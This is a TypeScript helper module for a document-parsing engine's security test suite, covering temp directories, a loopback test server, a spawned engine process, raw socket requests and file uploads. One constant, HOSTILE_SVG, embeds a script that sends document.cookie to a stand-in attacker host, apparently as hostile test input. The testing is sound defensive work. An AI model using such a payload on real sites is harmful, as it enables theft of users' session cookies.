// Shared helpers of the security suite: temp folders, a tiny hostile HTTP server whose routes the
// test defines, the engine CLI in a child process (so a crash or its memory is its own), raw sockets, and
// a file parsed through its /parse/sync.
import { spawn, type ChildProcess } from 'node:child_process';
import { openAsBlob, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { mkdtemp, rm } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const temps: string[] = [];
export async function tempDir(prefix = 'dp-sec-'): Promise<string> {
  const d = await mkdtemp(join(tmpdir(), prefix));
  temps.push(d);
  return d;
}
export async function removeTemps(): Promise<void> {
  for (const d of temps.splice(0)) await rm(d, { recursive: true, force: true });
}

export interface TinyServer {
  origin: string;
  /** Every request path the server saw, in order. */
  seen: string[];
  close(): Promise<void>;
}

/** A loopback HTTP server answering with `route` (a 404 when it returns false). */
export async function tinyServer(
  route: (req: IncomingMessage, res: ServerResponse) => boolean | undefined,
  host = '127.0.0.1',
): Promise<TinyServer> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(req.url ?? '/');
    if (route(req, res) === false) {
      res.writeHead(404);
      res.end();
    }
  });
  await new Promise<void>((r) => server.listen(0, host, () => r()));
  const port = (server.address() as AddressInfo).port;
  return {
    origin: `http://${host}:${port}`,
    seen,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}

/** A 1×1 PNG. */
export const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
);

export const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://attacker.example/?k="+document.cookie)</script></svg>';

export const ENGINE_KEY = 'sk-security-0123456789abcdef';
const REPO = fileURLToPath(new URL('../../', import.meta.url));

export interface EngineProcess {
  /** `http://127.0.0.1:PORT/api/v1` */
  url: string;
  port: number;
  dataDir: string;
  child: ChildProcess;
  /** Everything the process wrote to stderr. */
  stderr(): string;
  /** Resident memory of the engine process in bytes (Linux /proc). */
  rss(): number;
  alive(): boolean;
  stop(): Promise<void>;
}

/** The engine CLI in its own process (key from the environment), so a crash cannot hide in the test runner. */
export async function startEngineProcess(extraArgs: string[] = []): Promise<EngineProcess> {
  const dataDir = await tempDir('dp-sec-engine-');
  const child = spawn(
    process.execPath,
    [join(REPO, 'engine/cli/server.ts'), '--port', '0', '--workers', '1', '--data-dir', dataDir, ...extraArgs],
    {
      cwd: REPO,
      env: { ...process.env, DOCPARSE_API_KEYS: ENGINE_KEY },
      stdio: ['ignore', 'pipe', 'pipe'],
    },
  );
  let err = '';
  child.stderr!.on('data', (c: Buffer) => (err += c.toString()));
  const url = await new Promise<string>((resolve, reject) => {
    let out = '';
    child.stdout!.on('data', (c: Buffer) => {
      out += c.toString();
      const m = /listening on (http:\/\/\S+)/.exec(out);
      if (m) resolve(m[1]!);
    });
    child.once('exit', (code) => reject(new Error(`engine exited (${code}) before listening: ${err}`)));
  });
  const exited = new Promise<void>((r) => child.once('exit', () => r()));
  return {
    url,
    port: Number(new URL(url).port),
    dataDir,
    child,
    stderr: () => err,
    rss: () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'))![1]) * 1024,
    alive: () => child.exitCode === null && child.signalCode === null,
    stop: async () => {
      if (child.exitCode === null && child.signalCode === null) child.kill('SIGTERM');
      await exited;
    },
  };
}

/** Writes raw bytes to host:port and resolves with whatever comes back once the peer closes (or `ms` pass). */
export function rawRequest(
  port: number,
  chunks: (string | Buffer)[],
  opts: { halfClose?: boolean; ms?: number } = {},
): Promise<string> {
  return new Promise((resolve) => {
    const sock = connect(port, '127.0.0.1');
    let got = '';
    const done = (): void => {
      clearTimeout(timer);
      sock.destroy();
      resolve(got);
    };
    const timer = setTimeout(done, opts.ms ?? 5000);
    sock.on('data', (c: Buffer) => (got += c.toString()));
    sock.on('error', done);
    sock.on('close', done);
    sock.on('connect', () => {
      for (const c of chunks) sock.write(c);
      if (opts.halfClose !== false) sock.end();
    });
  });
}

/** A /parse/sync answer whose zip is asked for. */
export interface Parsed {
  code: number;
  message: string;
  data: { result: { outputs: { zip: string } } };
}
/** Parses `path` on the engine at `url` through /parse/sync with the test key. */
export async function parseSync(url: string, path: string, format = 'json'): Promise<Parsed> {
  const form = new FormData();
  form.append('api_key', ENGINE_KEY);
  form.append('output_formats', format);
  form.append('file', await openAsBlob(path), path.split('/').pop());
  return (await (await fetch(`${url}/parse/sync`, { method: 'POST', body: form })).json()) as Parsed;
}
